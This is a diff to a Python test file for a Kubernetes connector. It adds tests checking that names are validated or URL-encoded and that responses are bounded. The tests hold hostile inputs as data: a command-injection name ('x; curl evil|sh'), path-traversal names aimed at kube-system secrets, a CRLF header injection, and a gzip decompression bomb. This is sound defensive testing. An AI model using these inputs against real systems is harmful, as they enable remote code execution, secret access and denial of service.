@@ -2,17 +2,22 @@
 
 from __future__ import annotations
 
+import gzip
 import json
-from collections.abc import Callable, Iterator
+import tracemalloc
+from collections.abc import Callable, Iterator, Mapping
 from datetime import datetime, timezone
+from types import MappingProxyType
 from typing import Any
 
 import pytest
 
-from kubectl_connector.cluster import certificate_request, probe, token_request, vault
+from kubectl_connector.cli.manifests import removal
+from kubectl_connector.cluster import certificate_request, objects, probe, token_request, vault
 from kubectl_connector.cluster.caller import Caller, calling
 from kubectl_connector.cluster.transport import AuthenticatedPool
 from kubectl_connector.errors import ConnectorError
+from kubectl_connector.model.connector import Made
 from kubectl_connector.model.kubeconfig import Cluster, Impersonation
 from kubectl_connector.model.secret import Credential
 from kubectl_connector.model.service_account import ServiceAccount
@@ -29,11 +34,18 @@ def server() -> Iterator[ApiServer]:
         yield running
 
 
-def ask(server: ApiServer, status: int, body: object, step: Callable[[Caller], Any]) -> Any:
+def ask(
+    server: ApiServer,
+    status: int,
+    body: object,
+    step: Callable[[Caller], Any],
+    headers: Mapping[str, str] = MappingProxyType({}),
+) -> Any:
     """What a step makes of an answer."""
     if isinstance(body, dict):
-        body = {"metadata": {"uid": "uid-1"}, **body}
-    server.answer = Answer(status, body if isinstance(body, bytes) else json.dumps(body).encode())
+        body = {**body, "metadata": {"uid": "uid-1", **body.get("metadata", {})}}
+    data = body if isinstance(body, bytes) else json.dumps(body).encode()
+    server.answer = Answer(status, data, headers=headers)
     cluster = Cluster(server.url, certificate_authority_data=server.ca_pem)
     with calling(cluster, Credential(token=JANE_TOKEN), Impersonation(), 5) as caller:
         return step(caller)
@@ -92,3 +104,78 @@ def test_what_is_no_list_is_an_empty_one(server: ApiServer) -> None:
     pool = AuthenticatedPool(cluster, lambda: Credential(token=JANE_TOKEN))
     assert probe.probe(cluster, pool, 5).groups == ()
     pool.clear()
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh", "../secrets", "a\r\nX: y", "A", "", 5, None])
+def test_a_certificate_request_has_a_name_that_a_command_can_hold(
+    server: ApiServer, name: object
+) -> None:
+    with pytest.raises(ConnectorError, match="without a name") as caught:
+        ask(server, 201, {"metadata": {"name": name}}, submit)
+    assert "evil" not in caught.value.message
+
+
+def submit(caller: Caller) -> object:
+    return certificate_request.submit(caller, "pem", None, "kubectl-connector-abc-")
+
+
+def test_a_name_stays_one_part_of_the_path(server: ApiServer) -> None:
+    made = Made("RoleBinding", "kubectl-connector:shop:reader:a?b#c", "shop", "uid")
+    ask(server, 200, {}, lambda caller: objects.remove(caller, made))
+    ask(
+        server,
+        200,
+        {"status": {}},
+        lambda caller: certificate_request.look(caller, "a/../b?c", "uid-1"),
+    )
+    deleted, shown = server.requests
+    assert deleted.target.endswith("/rolebindings/kubectl-connector:shop:reader:a%3Fb%23c")
+    assert shown.target.endswith("/certificatesigningrequests/a%2F..%2Fb%3Fc")
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"kind": "Pod", "name": "x"},
+        {"kind": "Secret", "name": "../../kube-system/secrets/x", "namespace": "shop"},
+        {"kind": "Secret", "name": "..", "namespace": "shop"},
+        {"kind": "Secret", "name": "x", "namespace": "../kube-system"},
+        {"kind": "ClusterRoleBinding", "name": "a\nb"},
+        {"kind": "Secret"},
+    ],
+)
+def test_what_was_not_made_by_us_is_not_read_as_such(document: dict[str, str]) -> None:
+    with pytest.raises((ValueError, TypeError)):
+        Made.from_document(document)
+
+
+def test_a_command_holds_any_name_of_a_role() -> None:
+    made = Made("RoleBinding", "kubectl-connector:shop:a:b?;c", "shop", "uid")
+    assert Made.from_document(made.to_document()) == made
+    assert removal([made]) == [f"kubectl delete rolebinding '{made.name}' -n shop"]
+
+
+def test_a_long_message_is_cut(server: ApiServer) -> None:
+    with pytest.raises(ConnectorError, match="make a token of shop/reader: AAA") as caught:
+        ask(server, 403, {"message": "A" * 3_000_000}, request_token)
+    assert len(caught.value.message) < 2000
+
+
+def test_an_answer_is_read_up_to_a_limit_also_when_it_unpacks_to_more(server: ApiServer) -> None:
+    bomb = gzip.compress(b'"' + b"A" * 200_000_000 + b'"', compresslevel=1)
+    tracemalloc.start()
+    try:
+        with pytest.raises(ConnectorError, match="more than 8 MiB"):
+            ask(server, 201, bomb, request_token, {"Content-Encoding": "gzip"})
+        assert tracemalloc.get_traced_memory()[1] < 100_000_000
+    finally:
+        tracemalloc.stop()
+
+
+def test_requests_share_a_connection(server: ApiServer) -> None:
+    def twice(caller: Caller) -> None:
+        for _ in range(2):
+            certificate_request.look(caller, "one", "uid-1")
+
+    ask(server, 200, {"status": {}}, twice)
+    assert server.connections == 1
